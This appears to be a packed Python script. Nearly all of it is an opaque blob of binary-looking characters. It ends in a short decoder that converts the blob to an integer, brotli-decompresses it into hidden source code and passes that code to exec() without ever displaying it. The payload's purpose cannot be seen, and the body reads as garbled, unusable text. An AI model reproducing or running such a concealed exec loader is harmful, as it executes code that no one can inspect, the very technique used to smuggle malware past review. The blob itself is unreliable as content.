NZ'gP4`@1w֕6պDh\P~3=3pZ]m׾?A3ڔ}}'Oq0nsaOgKFӆ;::)ݢ=M8lA^)ھH΅vǕLh7OiSejŌB8ɍ3	y˪7548m/ܰw^ߦMlǄz^`L(12:r/A%1l
n
a4.Z(C.V}6P4=(-nXpC}MTzLmӞQX4R]?ݢUWnNȖ`:[6^Pȁs8}0,{@(׋\jԐ`"	/%	OT_d[9WM5{yUu!/9Ƈ3,9ν4-|w%Cv%#KZВjdw!L+0&P?^=V&gxѯ~W˭pUp>L[U*T8SB̩vΫ4cSnڑKxMrbIIS+1g˯2tzQ496FZĕ(~uհ+Ș Fѻ]ԏ4
GR|W*-ݛoǽw4P۫,*qM6Κ92gBr}1Aצkh$:Dr,Ka^\K)j5Wi,˳4G
dEvrĥbnnyy[)z?%SDK,CK~n8Mpr2ܝN!bI&݅XnKjʋKSB>͔Kr=s4G&ڊY46}U2+e2^lՒeLA<qv7>b:RM/~$UU¼'ָKetM Y=%FՊ3c'18Τ3yB<!ۮ(ɴD?
Pt{G(/}Ѹj/9ƒ${D9NF=ESwP4+r[B$VɆF'ص֧͐ak4Kݔ|-íYb>t{q6ֶQYDh|d*#e.B`φݧ4.ƣN"y_O%	?	pY?ȭSVݙDjBsvC/TĐN?*ɦ(-EdH0Kp8@̍5wכlWi/57?{bSB	ܗ5^RƄ.4GlːvtVYbo%A:هiqeO2[.:׆KMкڻ6D^Bq{+!<f-J?)L*<x"V!4eACJszw2ZĂ1	u+h @7,B++?\c`@v:Djh5YvD.ĈjymnԶtNK@ˊyxa,ib{"Ck֠2A(fS$:cURbGuP!b"o;o9//9P9l?1@3z]z֧V<^̽u_6Vʿ2bRqQ
aͮQ+,XΛ7,Ò5"'IGai%Ψģhӛ̳֙$i%PEz*/HPX)cȰZĸÒӐyӊ.\ǌyV&Kq%]1	2+C٦;9DnBR[cԳ{Xs!B	BFIVC~\YGM9֪i5{;3C9D%\D2W*BwW}bŪG$C}0.j`Qsȗ;/7NNɹu\:0R-m?${؄GfEJHG"3%oGK4.J{UְuDHw{NYc%ڕfN(vVPT 'GKx]PD6v˺7C0Mobua7}ؔ1_3D[MP=h0`)#be{wMb|CɶNNԋYL-|C-*wE`W(sBc>R]xl'v-`Gj.3:]:f*Kh!ƜQ<qq}Lp@wZZ6ahH1rJҰ7Oڝ_Ea/Źǡb6yJ/kv~_g)S75-X#ێ!iJ{cVM'لaho,Ri{e?pkRY8C{$mEl[;/;W*E]<ERÄ;VV͟NSN^;)|1Ȕ^Ʀz<awQAOX[5Q7B
:RI#˻cOTƩ?PQ@<Z2Mw]ɐ	)*̠ۑ}IcF&2v?fP] cK4oj<Lk!j5$>WȜ`"Җ9`eΉ[:3t+hزRmqig2Aڱx],)eԷ^OotXn 	ӂfjUedسlcLx.mJ?Vjkq&33^M@iY%g_?yb<¹ƀ̲deY	t%޼ei]ø/6Xh5`cbp0:k)ʴ+C^zb8z+Y
W}Ӄ?)ӻޗxi0ѩ++ ukp&L&=:'H
&SWڧ@O>Jդ.X(܇O:^EoG@Ysa;*[ϑMI!vHWUUغ|b)ҪkJىΗtfVZٻaĸ*NW 2
k,d>Is/nZTvMZ_Ӊ)oBLԝ}mVٱĔ5J D!wD&\m	jB&bN[*'i35f?r&Cc$:tK&u
::\mrB٤ו -4h*$3ѩUɘl&	~|׷)P06R}7ǜ@tRݶX=&ciݨ?j(%tc.'#RN!F+~s|#	lt<b<R9hA'oTKc+hS\vuiB=sA%;l)Xsǀg.?Y9Io-Xz8F7$X1nP~}Mh=RN	XՁ>*YAKAɳxh)߄ټYG+.vɡ.L$cm5IsJ
9m>AqXfLxz77B+	]3ReM*tnL;
M4I(?7έ<ē9Px]E4EGW40ؑ~T2ۈLf~ȗEm!:pߚ1'$U&̃Xfa.NҵlЎE"j_n-Bэ-@;dScI7hYSa4[P"uPUW͠o3e%,-MՖ<Ofj0Eަ\$Xɳ5;aH#B
GV8ߦZ׉]Z6fHwq=ܕ6dB`v}j)ͪD4dZ+Lw|\'v]8`qlXi^DxlssժWQhȧHd؀,ܖZ]>}1[Ӆ:[!\ HdWȼՅO]Aƪ_ύ|5̅,VR9U¨>ЀӶGR+F^MSDoMsCBfmX?Poahr1qpCƗP,;דwƄpzʱڷ<]3Up);#} W5
\.E$2(sִΥ ^Rx#y]Eg(e4jP1r͵;eQJFh?u=Bo@TQ@3ɺǷ%J8(.cMiZ22M?M@۶w՜>KSF2s'юn7Tĵv-qORŢDtZ(u;ޔθ܄Sp1K	 YWѰެe3\k(F
nzL<6a:`_Td.V5uSC_vCGԞ6ىs}Q'yq"r;/ѹqCT=Ah@&˕"z&f8!7a`x"I/یTs5&ό`,/T@(]MێMat#ki.s\~ˣd9:{ڶ!kILW\jq. '7&X߸֏4rˑ/@&˪`%q-=ɧMݥ6BnuO,%{V&j|~i*ʂ}?6F~|SG#?*|l%@wB|:!ǭJd=:SB-,q3|,%}قڏD%ۍ'65`AoE.]ˁQ"Qt߶%8q	N6:rȝɊWޞ?A&~E~w	Y #ܹxBlX]ٳs͏ܳr4ӜI})dR9t؟z(/nHEV2?.ŏqҪ $Gn_^@Dϑz>q.pˏƋeTWtI)#yWQ/+ɞ\MmGwLRSB78wYU5ȰnN\:B"?-pРWì]6H34.Ѐ53Z_8r2[FUސ8\d9<ԙiek~Lj]2bXh5[ԫ6}//0uvmu_͇k:&l=stU9Ж9c~lԌ$SԹBYԸ3ާmqp$0@frXx:o/A	dr*,Mo?6/n֡R+1gfΉhDei176hzֱT\,&i,OG5']T^F{s+J?H-n1
QHtxշ<R#Y}:ԠT?U7C{mJ˽g~vaan5ADsnOo,87lldG>uc.eY!
	u[߲RSr)TYˊ7WR;a(ęvsd|/hQ 2!?	}sԣwҮul>	W
Vs$T(hp`ի\h4Fdkhhô73dޓr ¥@PR)	ݵ^zi@C?-+)l0XjYǀpآ6-ˬwIƲo؊7uŐǼD	קxZB%="TUǽ]p|,zȚ{}pjUofEN7ѷqIȗ0uf8ZC_dRe\Nإ870ZG'Bvft=SȷpsY:Byf$,rǳ;h'ZeHܨvQyҨJw3axQr4DF8^p',Xqw:mU݅2ka;\'5|:'-qG9@"c\ \H<ѦCO8wN%Mrig=BCwmұMGe998X5;>~	ߔ0>yڗdq Y&uq03<JA#q.z(K_˺LA{JX>!0@#=%	wON@Baۺ5~	eQNPu&`_ߒ@od}>Fܵf	sǟěyTvJ;w>ҞhjMojk-';dbe	R+q&z98lɣԕ74MbbҪ΀oiąlӄ`q=˩}>U".1wŖJcR,1sٞ18ְ_|lw!zWppuh^N6ѿ]مuЏUi`a+#{>4Ϭ+|898L]~C*xPxr
vz"͵ɒX"nŪ5/X	ywyoTVΠO;x#5Y4	=/gAκ1ܱ&p6=$J!$z^3gY8}y~{Fн8Zw3=W@or7)Rט#)zy./vl-."RdʆI'	h,jzfl'`g5bD1D;&̔|Ó(3:^yV*-PI8{؇İGƛ%sva'-@}ʼŭ=Ӎը(uzGBbWCÝ\<șolm5ҹs; >STZ3O<$D8e*4=(XNӵs# 3;cOgѾ!P ڪy)OtL$LvXtL&W'InyH@5@Vo	w%"l@LY9#yjҦHpn+Ӟ`Aȟs΂ثON{dUӴ`-zII8_?\(9?4Ս)1<4^AeGޡ'4:D_FmÄK-i)֨WQ`Vxʹ<;@Ũ$}"+Eʮ.^s<"|%,CJ!	:$\=HMԼE[o^L<ĝ6HK(nUWc-vV6ȾRֵZGj`y`FF؇m}ӈIJ,&W63*D@l mzfi&ƋD֑6|-o)y׽qoځSg3^G٨anٽ",vT:`[I܌?b!wHG]p=,;mؘ6sR;IDm[	Bg
%|a0QpMOī0pKڰoI*wrIKYɩ)K̚OQT"XDѮscV5!xZ\ťl.C;2Ɇ6iȝd*
e_KȂ-ߡYH~|h%ͫ:`'K(FxE&7~9.h8ZmFэ*LVZlOIx,E˔";ndɱt1n`
ǌAI8:[ׄ"aVR7{5Q3^.&Ė)ف۞&:!S5-ٛk6qxAޙg:)<Q;JH66G9Ғz(&IIY$(Ңlkc|3X*<OUo']^"5x.Pڠ#j;a_HצޣFmgScz"`*1ƽѹR95aKd)|19JGq&Zxs}
DgrZ=)%uɪ:#js%'?8ʑtk[C"U6.qeY;U5z1	\JRfNyJܰTIb$Mߢ!KHo\ޭ|zILlWatq-MGڕ%-u/3r(Bh
rV<ū{7uc;L ֤_ԑ7b#_X;Q'GvX}عI^Z~)J0<CP\V-B>Ta5?`Nۦl)j{85~iДW%0Zzob]0u(;
O,#~jN\մ;p>#x[ũyGԳZ7A1O0+B	oeQPŌ&0^vAy&{J6xg5z-1Fa0
.VuttW:P4uJZwqNok)5&בқrځ?6c#>#|x8|Y#0jq!O)Sޓ#QD4	[ρe\<'O4Ǿ 3uOcNwR%Bv;h
Fƃӳ|K9k%{ STtkFU5FNGGAJăp6{4|ԽCM<_`޶H0m0yFc$$DaNz1#vKh؜d&]?H2$Wo@g7~SZЀ!ؓO,xx`yb]OoO2ڪJtHTSL/ ز_xӢUmX`ʞVG{iƁ5J&?/LGrnIvzN
@cL7֥܂nq]}JKe(ӸIk&{߻m*dRLf:bk9\ґ
כL?Dܥ{[QٴA<k^hȤ)%naKֶ֤001ǢX}nno'}goӟ`{w""a6(4R&dFy_yoͥBgqfm'(=nzSTg6a
BG±D}J~1;=ub~9)ƀ'E&yi+t] PAGgZ¶N̩{2<<&ًifbڣтҨ[E+pwa	GܹR.vͤ(\}u\;G}hK9x$eufZHdԎWPnQu)#7`;4_K%zYƣ_XI--,ɫ>HV&T*9k8X8JR	SC߂|B6*sVH$ݿ^fK3;vϜİvj
6:T)Ҹ-E"%Gғf{ÿb}jr/8?φpǿY$<s1I6_ӟ@C0cv	lB3Rάe=ϥ{=Xx#|ܧ@"ğο=P(GU;eJ|E^OGv57fl-.p(џ}5b7Ċf;=Ezqg_9md>qSʟ^bObCvЏʠg-Fa=ə*tOˆ,
Ϳ(QKoUܰ<Ǝ[xT/=ZeѢ!?!WKwЊ3uٮoǇ֨59ۮzs7իԆO4[2Nw&	u~%q`Nelc$a=spu; QC&4in-Fϒ3Ê>u1d.BMW6E!^~GkI"`^_*?uѫ\5Hރ^y1]ğt)3k3c{/[k8PgƕWeB-)"ɤ?WƋ5u\OZG˺=Fļc_P7zdL,νDoʶ)\w@~qP΋._q}9|Rn|;3ѡa+܂ 8]2©N{Rw3FZȃ`jҐwEyPkI-J6UĽJ"t7Xڄ`gu;ظwl!xr=I34?'P)h\WapǾÝձ+zGwD݇BMI>qAGƩ[b|7,uJ!C\@P~LM[SJ~Č*\μϞb]"m_>x"bg4LƫC^MJy3^#=ΫodW~mZ.Lm<ҩ<~x?R݃;=ÊKfWϞ)6^"q@_T02/8~) ڼ"*m]W9;uIgPկѸݍr)/	3(qL:xåslÜ{FE/ ǿڳ3ݍx<FHX&Øpt!inʤABe^ w? O]1u]ăttҦǛ?U)Mv >-~r]!e6DFMg<'nDG<>E_"s#gf+{]n.,nϋX)h"2<ƅ#I&9{) kfP&ԟc^7ydό<O"=`kݻ%4=O$ǔYt7{=!Cù\wߩBB8j+p?%pC1c	wŢ^(E&,d.p5f!@-DN1_+}V9Q>'MxҴ.ȱeβ3<za3/<CSJsTj*r#c_'1_9(p>z])F8u^fϽ_`RD6c(K2^ސڒ-+ZX%K44=%~q`vɊDP$V 
_^W0BȗYhJ#e544I9ďJOٖ9UM~Q>\'^wĢI\!6і)՘.żu>˖(ܙa|jVi¥&V9/$}u.h,zjZ5\ݘGlbrEԗmgbwe߫L^(Ɛ>$&z>ܳ3:L
	=`ָS%_PZG7;)| ]bWذ8qqN$R'ԗ]reŒԿd,O"}޳ժp \|"A=fdv8۩?rm`ع'gRw:ud }ӻ$zNWu(E9Ԯ֎ңҘ͈K/Sߨٺj*OpB΄ן5].CHכ-1)dvPiɎwԯrѣv?	eXhCe[@԰/4r..RgnVZ<95=fJ؝8[O8bb~p7Dḷ̌VͼIP=$g<HvB
(ͼæRt3[[ݔՄ^xѣH@u2بz"I0]éSIż^="d-Gnԧ!{̭`tYOvOevFEaKAuz;ض~(\D]!%(NH6-6\xD3Ovu>DܼX#G#=IȬ3f"*ajo3#ϤSQ#J&JWCv$ŋTu`ZRPm'[H$DLTxUu;=@ ѢU10ŉSf<swŉ7?ISwOp)4M:
('1HAnJU9
(p
T#9ҙ6aȻ1Kd+Q3<b77H-:lC[on'R+aFl]i7|P|%F{<x!hqiNHٵz2Ѧ1Wn Ldιe.4(9w֓1.ÃO$:hC%'őAkHML9Źdژg<e̗րb$!a5=MА`!"
odB"ػ7taPuxۘc7/QLчZq7y0ލdyǓ>VCyn@`cP)(Te	h0f(8D~yNM>e׌ZhŦS9xB߯V}Ez*n%Ԋ{vˣ*ͱnQ5xeۥiZ[X8ʇ\mwDmP(=xVH٬%TAӎM{^WEU>v#)$
_Q×=*||dKQq/ZAa~;lhX\2"}!z;c2]ռ)!$~*;ӚYb`ŷ0Px[[4m4EpK9VT!mOI70DMc
s@DK6@tҁx7z_{H/|	10GZG\ʭ(i7aM;&A&Bm:6<ܠUn
eE<`ͬ\ԏҸϟĶ35F1VZf |?,P( ߒR	\;UP<Hͦ	Ԑ0^ YIL4٩9˓nJ4vG)'^`wې3¹&|<>=Rq6ʸ>=Y^-&A`
ղtѕGc:F +*qGpoX_zsJ!Q7ˌ)5W.'߅:`Yh#47WU7ކj{v6GKE΂['"F6CsɔztP+Xdu%ɔh֕
VfĢ6R.6xx(gwz8إ/fk>ĻJӶ[MNBuC-SlӼ	{UaZ	ùM~lo.SrWgX?E-؞s|xkϏ9
XĎUSKPG_VAlD86!P%dp?ԑ7`0=q@,P<6=9_p`oP91qͨu׸D>]j$Y`U#ِ߮!	QL7*?4kSu	{y\_$Kϩ]@ƞ<e7%*>ޛrs{:sax8JȨ^C+|*%gFDOKimުd(~)J{4,[O$>T)D71x\{K/8ZoRէז:AzBwoMLXvHޯ7ԱҒbWm7խp(˚8H=Bʬ_xE|"eαT	5ΐy^	G{qv_!X`/L:9s֏[͘k$CUDŘu~Fp`ܭJFz'~4-)ʀ1y7xH%6@4z]~IɅPYo~[rc,z{yzzNWr|pcʦĽ	n{۵K27z/ۀAM+BFJ1[O6ϴoۿ
Rk":o2Ǻ#%R#F\-W:8{;`|||J{j)Z:Գ&eu{B<$Rpv̈́[f*߇ޖuXVʘҽ!	6:pjSǾvݧދy9Φ0mm-+A`LSq"sPGuL@AFSˍ߁H[q!ܹiUm{U*C^nAZf!9D=6Zlˊb{p5mBn&0ϵN)eA]ZWтNN3r>r9̃	1OJ{ӷ۲N"ҵOZ%ع27ӓ^&T=w9Bd|KxWGXқx+E1ivTwϿ1n0Ԕ~*W;8{5J75#hR1%Tj&#*+XʈTbiB.X֪܀Ѹ.VE;a(+ZR̴b,R0UZݏAs$V8)1_M&]EQm`9ֵn2QS.4f`llUV6uIؿf3|lRw0ܓ&C=+9f0ξְp[ojs'wB=py;X(f7zAp"R!Ml r+4Ht[zvKW^!-ݎcXz2D~PÑǢsbԇd!Vآrǲ)=oXLbLދc#n'*rw3ĎO-DmZغ6%$ci8!2sцk(\!Ѥ]9eԲѱw5ǖR5NtL077dv 1@[ErٝrpDS1Bم~i0C>z!U-˿JЃ\q;Ԙ,wʮcCo_AkbV:prI@X]Q}I%r$@[@)=*zbUd?ͦ;1?6uN=xb`gJ_K]ov'A҄/̫F	bѯ)W*7qe`'nՓK(8ʸvoa>On=Xub@6ñG̡Q(cf;BJ#Umvؗj	5>v-+2A*jL}Kvy"Wop׿H>ClQpnf.8׶a	_؄9l}d
˧JnuҎnzmsFq<\G&\AUrRJޠ5L[;I8<
j7sK>QtޫƄ4NjXhZdS{֖h-˳ANʵ}!:1L/vkcl0֦_9"3+%\n4[vOQڢ=-i6iV}hLQ\7ǯ@vߦEd״Hk(@=tұǟ |>
&vř =Vɒ&U[xci?
.ں4%knrgQk2,?Qޏ,Pn	yyɖ$PyBr^Qv2T+
yƺ$)E_W5b'ZNKR-ץV	_TzB¨كYkpإK*֍VVV_Q?lA'Y&Ԫv4cwUFN[ګX&5*kJ^'ͩ+2޸PnJe]9aK\W]$&1Ee&ʁps
M<g#HY?!
DhE*Qdn9O>(sEqT#0DTJ_D=&T[qˁMq^ O>|Wh@XGQ)ߛaԸM)-~ސvlOel$1J.ڰӺH[ɕ
hI`ŶH|mIWM"enjS*&J]lxьqh;-UG 5d͵k˳ۿA!kDmڛ\XY6u[3\K0aIWϽF6"ΟZp!Aؙcr2!%)?[{z}XՂܐEݱ'x"8jf(/h1JiUt=ҀIhaӡ7j	,ގ܁#8kV8>FפXB*%{1u&ʓJNK\XZ`d0`YD
 ͣVC8ym:d(:{6ZK1
TmAHlʶBPS_s9܂RV#Zʑ0f
T U}ANW5ȋdVBwP/hXb$5Ï\jWJTu>*ROR/<v6Oo\rgZ]%"[eFX9ԂN^GFbɲ,4o?NG'0+YE_HLCkk,i#eΨXO(|xDX[׹X&4ӊquV9Z\"|20M_eт1NK'ΓOUx#$BGoN-P<?д۰_b9wt7B]Jz38ul{l_1.۾ΘvF'\;Wjn z|RnqǧDswKJS^Ki5޳cֶgSX*$ZNȵs{AFΏHvK=}RHHʑS	CiQp(Eп%+ubtny{smM@jԅTNuEI2N4J#!1k_Tg7f$ʬʆ0ģ~M(@u]B DI@igȝy>5QΨXh$;ʕ?/bqxh۩dLC>$6E*kÖ/Ż/B?1]wv*1m&L9/BcR= J~ۺRX'G|ǔW~۶[YҝŔR|H؏S[Of?w@S6zo!Yk׎ih<AW$6Țϳ/rC>StIB8]PGCī (ߛCZMC
ڃ
ߊ`6ͮUsn|T2V*k./'G^76D߫(ٶ'N?1ȯ3ZׁfTŁi9=֚qsQ[t4F+ĶH0T!|uT7HlI{G/ȼwih]*6c%j$rn
9׺a]`B<V+[E?m(gbHqW;},40Jdɋ&;d^ڝ0+٠tʓRqs?vL"ܸ8ӆXba2֣{UL=Eƚy#7I3UNbE?t4b,{
)ڏj_pADiO6ԪڹIʌtwNK?ќڵzA
[V'3.3 EL%p(5x xPFAѵN۹)[$kchO>yq/2!Jl4/H.KrZ-R$f]Ż͝#U8WOj^Q`
9EK'~9a֤j<;v:;^cJ'}m
6	[]>!$-os=YZ-Q~ra4f~}x֢)e` e=q
{MAI~G~Y_)Ny.ewqX̳6)¤o|1
#M@	iCtXs?xƉͯ!<{x/mɝg9אLϔŢFsE]_S]5KоASy	+K'P.X1%M4jκ?;u8p߮lΓ|.CҞƙ
ݶy;9ڈ+Y{pdހ^q>HTl1,lq<<юw_mLc%TX2͉ZxylqHZ(k>re4|%/۔	{ءƈic\*@%IZB<h<'߀ָX_ł*+D˵Nܪ:i2Ō<3N&xJm*OѰIrURN-U9s^CSψ</b##XFNz2؂E+B?%IA.c7Z#wK2jz}-P*I$۷dbt3b*e[t/ޚ.5yÛpkջЭ9-	YG)XMϰ)a~papn)`Cx2x)d:ӮeVέ=0-SbRݸ-ѨWmuDe#1onfQh<˔QoTH</İ˾_s:@;_~d(˛I-Veia	ĬOBU]y
Wjnӗ@' 	e@`ױn$/z*RGh
uLArM΅4kȊ|g[΂~JHw*8= 5Q&8^9;Ӑa _k#{Ttvb3^Dg˫|t~{	1ݕۑ#h?$[Gh;\,Q-;f-Jxө.{,5c%N3VM*jhj*y,5AƐ,z3>
z}<'7Jˢ0\X1D'4lmel
t%B}͵5#m!c=OF3Ǜ}ʏcd2|YڛUI Z].ч1,yz-tEdyd\K[؋%j)}L֬iؐU|^)E5s,cgQJ`QTa5qM&+ޮHޠ+CS^aVƥ*xհhƥabb"8,y|lI2!`9s3Oٙ6ǖN(
.D4J!ܭtTJ0Z,b_L:cbp,Gզi$&	NP^|T\Tx$KOx?6?)rrtl-#bia2\JfU!F|MQ۫X߮nHNB=Ȅz\wRtu6]d[ayґ(8oC;&RΦUriykhXc(mnBR0<fWbԫWVJ!^7$|gT)A&?QnP,ݝgcBLhɮ8ȋѨ!L}I
T̸tvlf>SmQkJ1Xgȶ&48{Դ4w/]gXи-FjȰxSu}Hmp<Lid6V%
cP{CJ
Own+Vۙ#~h/o`gN"4>cHxC ~ĘITgV*ߎEOXZq-ï8M2`nCnYY,VXإ3ndΝ*+Kن͢&%ĺא`"uhE5E23QZ		glvY6jMȣLbW' R:k2wdU?ߡհ5+̨4֡ʤ:ںz*i7z~߸a( :p?M֗S@&y%KTBw@,#xRA6Sߠ߱LB)ԁr"Eq[/2?uݨ%Wkv/wQd)ʥvcSC0&g\m1uUINإ>d7qA=ĩyG(ؚGmP)3	׃(S3^*3U7zٛpux{/|7r#+{^pBENۻ,S>vߋ$M	,=G Ѩs0
80ζ5Jދ:x(t@e}q	T/"wȒ,{qF#HݡEY^C:z"Rؐ1''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(26586)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
